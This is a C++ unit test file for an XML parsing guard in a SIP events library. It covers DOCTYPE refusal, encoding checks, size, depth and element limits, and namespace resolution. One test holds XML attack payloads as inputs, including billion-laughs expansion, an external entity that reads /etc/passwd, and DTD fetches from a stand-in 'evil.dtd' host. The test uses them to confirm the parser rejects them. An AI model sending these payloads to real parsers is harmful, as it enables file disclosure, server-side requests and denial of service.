#include "sip/body/xml_guard.h"

#include <string>
#include <string_view>
#include <vector>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "sip/body/body_size.h"
#include "sip/body/decode_scratch.h"
#include "sip/body/xml_names.h"

namespace sipevents::sip {
namespace {

using ::testing::HasSubstr;

std::string Nested(int depth) {
  std::string text;
  for (int i = 0; i < depth; ++i) text += "<a>";
  for (int i = 0; i < depth; ++i) text += "</a>";
  return text;
}

std::string Siblings(int count) {
  std::string text = "<r>";
  for (int i = 0; i < count; ++i) text += "<a/>";
  return text + "</r>";
}

std::string Repeat(std::string_view piece, int count) {
  std::string text;
  for (int i = 0; i < count; ++i) text += piece;
  return text;
}

// Parses and gives the error's text; empty: none.
std::string ErrorOf(std::string_view body) {
  DecodeScratch scratch;
  const auto root = scratch.Parse(body, /*lenient=*/true);
  if (root.ok()) return "";
  EXPECT_EQ(root.status().code(), absl::StatusCode::kInvalidArgument);
  return std::string(root.status().message());
}

TEST(XmlGuardTest, DoctypesAreRefused) {
  // given: exponential and quadratic expansion, files, other hosts, parameter entities
  const std::string long_entity = "<!DOCTYPE r [<!ENTITY a \"" + std::string(50'000, 'a') +
                                  "\">]><r>" + Repeat("&a;", 50'000) + "</r>";
  const std::string laughs =
      "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">"
      "<!ENTITY c \"&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;\">]><l>&d;</l>";
  const std::vector<std::string> bodies = {
      laughs,
      long_entity,
      "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
      "<!DOCTYPE r SYSTEM \"http://192.0.2.1/evil.dtd\"><r/>",
      "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://192.0.2.1/p\">%p;]><r/>",
      "<!DOCTYPE r><r/>",
  };
  for (const std::string& body : bodies) {
    // when
    const std::string error = ErrorOf(body);

    // then
    EXPECT_THAT(error, HasSubstr("DOCTYPE")) << body.substr(0, 80);
  }
}

TEST(XmlGuardTest, MalformedTextIsRefused) {
  for (const std::string_view body : {"<r", "<r>", "<r></s>", "</r>", "<r><a></r></a>", "<r a=1/>",
                                      "<r>\x01<", "<!doctype r><r/>", "<r><!-- ", "<r><![CDATA[ ",
                                      "<r a=\"", "<!DOCTYPE r [", "<r/><!DOCTYPE r [<r>"}) {
    EXPECT_THAT(ErrorOf(body), HasSubstr("XML: ")) << body;
  }
}

TEST(XmlGuardTest, TextAndElementsOutsideOfTheRootAreRefused) {
  EXPECT_THAT(ErrorOf("hello"), HasSubstr("text outside"));
  EXPECT_THAT(ErrorOf("hello <r/>"), HasSubstr("text outside"));
  EXPECT_THAT(ErrorOf("<r/> bye"), HasSubstr("text outside"));
  EXPECT_THAT(ErrorOf("<r/><r/>"), HasSubstr("more than one root"));
  EXPECT_THAT(ErrorOf("<?xml version=\"1.0\"?>"), HasSubstr("no root"));
  EXPECT_THAT(ErrorOf(" \r\n"), HasSubstr("no root"));
  EXPECT_THAT(ErrorOf(""), HasSubstr("empty"));
}

TEST(XmlGuardTest, WhiteSpaceCommentsAndInstructionsAroundTheRootAreFine) {
  EXPECT_EQ(ErrorOf("\r\n<?xml version=\"1.0\"?>\n<!-- a --><?pi x?><r/><!-- b -->\r\n\r\n"), "");
}

TEST(XmlGuardTest, OtherEncodingsAreRefused) {
  EXPECT_THAT(ErrorOf(std::string_view("\xFF\xFE<\0r\0/\0>\0", 10)), HasSubstr("UTF-16"));
  EXPECT_THAT(ErrorOf(std::string_view("\xFE\xFF\0<\0r\0/\0>", 10)), HasSubstr("UTF-16"));
  EXPECT_THAT(ErrorOf(std::string_view("<\0r\0/\0>\0", 8)), HasSubstr("UTF-16"));
  EXPECT_THAT(ErrorOf(std::string_view("\0<\0r\0/\0>", 8)), HasSubstr("UTF-16"));
  EXPECT_THAT(ErrorOf(std::string_view("<r>a\0b</r>", 10)), HasSubstr("octet 0"));
  EXPECT_THAT(ErrorOf(std::string_view("<r/>\0", 5)), HasSubstr("octet 0"));
  EXPECT_THAT(ErrorOf("<r>\xFF</r>"), HasSubstr("not UTF-8"));
}

TEST(XmlGuardTest, ByteOrderMarkIsTaken) {
  // given
  DecodeScratch scratch;

  // when
  const auto root = scratch.Parse("\xEF\xBB\xBF<?xml version=\"1.0\"?><r>x</r>", true);

  // then
  ASSERT_TRUE(root.ok()) << root.status();
  EXPECT_EQ(scratch.Text(*root), "x");
}

TEST(XmlGuardTest, DeclaredLatin1IsConvertedUnlessItIsUtf8) {
  // given: Asterisk declares ISO-8859-1 and sends UTF-8
  const std::string declaration = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>";
  DecodeScratch scratch;
  for (const std::string_view text : {"gr\xFC\xDF", "gr\xC3\xBC\xC3\x9F"}) {
    // when
    const auto root = scratch.Parse(declaration + "<r>" + std::string(text) + "</r>", true);

    // then
    ASSERT_TRUE(root.ok()) << root.status();
    EXPECT_EQ(scratch.Text(*root), "gr\xC3\xBC\xC3\x9F");
  }
}

TEST(XmlGuardTest, OnlyTheEntitiesOfXmlItselfAreExpanded) {
  // given
  DecodeScratch scratch;

  // when
  const auto root = scratch.Parse("<r>&lt;&amp;&gt;&quot;&apos;&#65;&#x20AC;&foo;</r>", true);

  // then
  ASSERT_TRUE(root.ok()) << root.status();
  EXPECT_EQ(scratch.Text(*root), "<&>\"'A\xE2\x82\xAC&foo;");
}

TEST(XmlGuardTest, ReferencesToNoCharacterAreRefused) {
  for (const std::string_view reference :
       {"&#0;", "&#x0;", "&#1;", "&#xD800;", "&#xDFFF;", "&#xFFFE;", "&#x110000;", "&#4294967361;",
        "&#x100000041;", "&#;", "&#x;", "&#-1;", "&#65"}) {
    EXPECT_THAT(ErrorOf("<r>" + std::string(reference) + "</r>"), HasSubstr("character reference"))
        << reference;
  }
}

TEST(XmlGuardTest, DepthIsBounded) {
  EXPECT_EQ(ErrorOf(Nested(kMaxXmlDepth)), "");
  EXPECT_THAT(ErrorOf(Nested(kMaxXmlDepth + 1)), HasSubstr("nested deeper than 64"));
  EXPECT_THAT(ErrorOf(Nested(9'000)), HasSubstr("nested deeper"));
  EXPECT_THAT(ErrorOf(Nested(140'000)), HasSubstr("more than 20000 elements"));
}

TEST(XmlGuardTest, ElementsAreCounted) {
  EXPECT_EQ(ErrorOf(Siblings(kMaxXmlElements - 1)), "");
  EXPECT_THAT(ErrorOf(Siblings(kMaxXmlElements)), HasSubstr("more than 20000 elements"));
  EXPECT_THAT(ErrorOf(Siblings(250'000)), HasSubstr("more than 20000 elements"));
}

TEST(XmlGuardTest, PiecesOfTextAreCounted) {
  EXPECT_THAT(ErrorOf("<r>" + Repeat("x<!---->", 100'000) + "</r>"),
              HasSubstr("more than 20000 elements"));
}

TEST(XmlGuardTest, AttributesAreCounted) {
  EXPECT_EQ(ErrorOf("<r" + Repeat(" a=''", kMaxXmlAttributes) + "/>"), "");
  EXPECT_THAT(ErrorOf("<r" + Repeat(" a=''", kMaxXmlAttributes + 1) + "/>"),
              HasSubstr("64 attributes"));
  EXPECT_THAT(ErrorOf("<r><s" + Repeat(" a=''", 200'000) + "/></r>"), HasSubstr("64 attributes"));
}

TEST(XmlGuardTest, SizeIsBounded) {
  // given
  const std::string frame = "<r></r>";

  // when
  const std::string largest = "<r>" + std::string(kMaxBodyOctets - frame.size(), 'x') + "</r>";
  const std::string too_large = "<r>" + std::string(kMaxBodyOctets, 'x') + "</r>";

  // then
  EXPECT_EQ(ErrorOf(largest), "");
  EXPECT_THAT(ErrorOf(too_large), HasSubstr("more than 1048576 octets"));
}

TEST(XmlGuardTest, NamespacesInForceAtOnePlaceAreBounded) {
  // given: two declarations on each of 40 levels
  std::string deep;
  for (int i = 0; i < 40; ++i) {
    absl::StrAppend(&deep, "<e xmlns:a", i, "='u' xmlns:b", i, "='u'>");
  }
  deep += Repeat("</e>", 40);
  // ... and as many side by side
  const std::string wide = "<r>" + Repeat("<e xmlns:a='u' xmlns:b='u'/>", 200) + "</r>";

  // when, then
  EXPECT_THAT(ErrorOf(deep), HasSubstr("more than 64 XML namespaces"));
  EXPECT_EQ(ErrorOf(wide), "");
}

TEST(XmlGuardTest, AnErrorLeavesTheScratchUsable) {
  // given
  DecodeScratch scratch;
  ASSERT_FALSE(scratch.Parse("<r><broken", true).ok());

  // when
  const auto root = scratch.Parse("<r>fine</r>", true);

  // then
  ASSERT_TRUE(root.ok());
  EXPECT_EQ(scratch.Text(*root), "fine");
}

TEST(DecodeScratchTest, TextInPiecesIsJoined) {
  // given
  DecodeScratch scratch;
  const auto root = scratch.Parse(
      "<r><a> one<!-- x --> two<![CDATA[ <three> ]]>\n</a><b><![CDATA[v=0\r\n]]></b><c><d/>x</c>"
      "<e/></r>",
      true);
  ASSERT_TRUE(root.ok());

  // when, then
  EXPECT_EQ(scratch.Text(root->child("a")), "one two <three>");
  EXPECT_EQ(scratch.RawText(root->child("b")), "v=0\n");
  EXPECT_EQ(scratch.Text(root->child("c")), "x");
  EXPECT_EQ(scratch.Text(root->child("e")), "");
}

// ---- names

XmlName NameOf(std::string_view body, bool lenient, const std::vector<const char*>& path) {
  static auto& scratch = *new DecodeScratch();
  const auto root = scratch.Parse(body, lenient);
  EXPECT_TRUE(root.ok()) << root.status();
  if (!root.ok()) return {};
  pugi::xml_node node = *root;
  for (const char* step : path) node = node.child(step);
  EXPECT_TRUE(node);
  return scratch.names().Of(node);
}

TEST(XmlNamesTest, PrefixesDoNotMatter) {
  for (const std::string_view body :
       {"<presence xmlns='urn:ietf:params:xml:ns:pidf'/>",
        "<p:presence xmlns:p='urn:ietf:params:xml:ns:pidf'/>",
        "<xmlnsp:presence xmlns:xmlnsp='urn:ietf:params:xml:ns:pidf' xmlns='x'/>"}) {
    // when
    const XmlName name = NameOf(body, true, {});

    // then
    EXPECT_EQ(name.space, XmlNamespace::kPidf) << body;
    EXPECT_EQ(name.local, "presence") << body;
  }
}

TEST(XmlNamesTest, InnerDeclarationsHoldInsideOnly) {
  // given
  constexpr std::string_view kBody =
      "<a xmlns='urn:ietf:params:xml:ns:pidf' xmlns:p='urn:ietf:params:xml:ns:pidf:rpid'>"
      "<b xmlns='urn:ietf:params:xml:ns:dialog-info' xmlns:p='foreign'><c/><p:d/></b>"
      "<e/><p:f/><g xmlns=''><h/></g></a>";

  // when, then
  EXPECT_EQ(NameOf(kBody, true, {}).space, XmlNamespace::kPidf);
  EXPECT_EQ(NameOf(kBody, true, {"b"}).space, XmlNamespace::kDialogInfo);
  EXPECT_EQ(NameOf(kBody, true, {"b", "c"}).space, XmlNamespace::kDialogInfo);
  EXPECT_EQ(NameOf(kBody, true, {"b", "p:d"}).space, XmlNamespace::kForeign);
  EXPECT_EQ(NameOf(kBody, true, {"e"}).space, XmlNamespace::kPidf);
  EXPECT_EQ(NameOf(kBody, true, {"p:f"}).space, XmlNamespace::kRpid);
  EXPECT_EQ(NameOf(kBody, true, {"g", "h"}).space, XmlNamespace::kNone);
}

TEST(XmlNamesTest, UndeclaredPrefixesAreNoNamespace) {
  EXPECT_EQ(NameOf("<p:presence/>", true, {}).space, XmlNamespace::kNone);
  EXPECT_EQ(NameOf("<presence/>", true, {}).space, XmlNamespace::kNone);
}

TEST(XmlNamesTest, NamespacesOfDraftsAreForTheLenient) {
  constexpr std::string_view kBody = "<presence xmlns='urn:ietf:params:xml:ns:cpim-pidf'/>";
  EXPECT_EQ(NameOf(kBody, true, {}).space, XmlNamespace::kPidf);
  EXPECT_EQ(NameOf(kBody, false, {}).space, XmlNamespace::kForeign);
}

}  // namespace
}  // namespace sipevents::sip
